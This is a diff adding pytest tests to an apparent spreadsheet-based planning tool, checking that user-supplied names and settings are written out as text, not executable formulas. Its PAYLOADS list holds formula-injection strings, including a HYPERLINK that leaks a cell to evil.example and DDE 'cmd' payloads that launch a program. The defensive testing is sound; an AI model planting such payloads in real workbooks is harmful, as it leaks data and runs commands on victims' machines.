@@ -6,6 +6,7 @@ unchanged, and no output file unless the run succeeded.
 import hashlib
 import json
 import os
+import re
 import stat
 import time
 import zipfile
@@ -336,3 +337,60 @@ def test_non_finite_numeric_cells_written_by_a_program_are_located(tmp_path, mon
     rewrite_member(path, demand, lambda xml: xml.replace(b'<c r="D2" t="n"><v>30</v>',
                                                          b'<c r="D2" t="n"><v>' + written + b"</v>"))
     solve_fails(path, expect=expect)
+
+
+# ---------------------------------------------------------------- formula injection: user text stays text
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"help")', "=cmd|' /C calc'!A0",
+            "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+
+def with_payloads() -> dict[str, list[dict]]:
+    """VALID with names, a setting and a column header that a spreadsheet would run as formulas."""
+    rename = {"MP": PAYLOADS[0], "NdPr oxide": PAYLOADS[1], "EV": PAYLOADS[2]}
+    sheets = {name: [{k: rename.get(v, v) if isinstance(v, str) else v for k, v in r.items()} for r in rows]
+              for name, rows in VALID.items()}
+    sheets["Sectors"] = [dict(r, **{PAYLOADS[1]: "x"}) for r in sheets["Sectors"]]  # an unknown column
+    sheets["Settings"] = [{"key": "name", "value": PAYLOADS[3]}, {"key": "currency", "value": PAYLOADS[4]}]
+    return sheets
+
+
+def formula_cells(path: Path) -> set[tuple[str, str]]:
+    """(sheet, cell) of every formula in a written workbook, checked in the file itself: no formula
+    element in the sheet XML may hold a payload, and openpyxl may read no other formula."""
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = z.read(name).decode()
+                assert not any(marker in f for f in re.findall(r"<f[ >].*?</f>", xml, re.S)
+                               for marker in ("HYPERLINK", "cmd|", "SUM(")), name
+    wb = openpyxl.load_workbook(path)
+    return {(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"}
+
+
+def test_names_that_look_like_formulas_are_written_as_text(plan, tmp_path):
+    inp = write_input(tmp_path / "evil", with_payloads())
+    done = run_cli("solve", inp, "-o", "result.xlsx", "--json", "result.json")
+    assert done.exit_code == 0, done.output
+    assert formula_cells(tmp_path / "result.xlsx") == set()
+    procurement = openpyxl.load_workbook(tmp_path / "result.xlsx")["Procurement"]
+    assert PAYLOADS[0] in [c.value for c in procurement["A"]]  # the name, shown as written
+    done = run_cli("validate", inp, "--report", "report.xlsx")
+    assert done.exit_code == 0, done.output
+    assert formula_cells(tmp_path / "report.xlsx") == set()
+
+
+def test_validation_report_of_a_workbook_keeps_only_the_planners_own_formulas(plan, tmp_path):
+    path = xlsx_of(with_payloads(), tmp_path / "evil.xlsx")
+    wb = openpyxl.load_workbook(path)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    c.data_type = "s"  # the payloads are text in the input, as a planner would type '=…
+    wb["Supply"]["D2"] = "=2*25"  # a formula of the planner's own (never computed: an error to report)
+    wb.save(path)
+    done = run_cli("validate", path, "--report", "report.xlsx")
+    assert done.exit_code == 2 and "Supply row 2, column capacity_t: formula =2*25 has no saved value" in done.stderr
+    assert formula_cells(tmp_path / "report.xlsx") == {("Supply", "D2")}
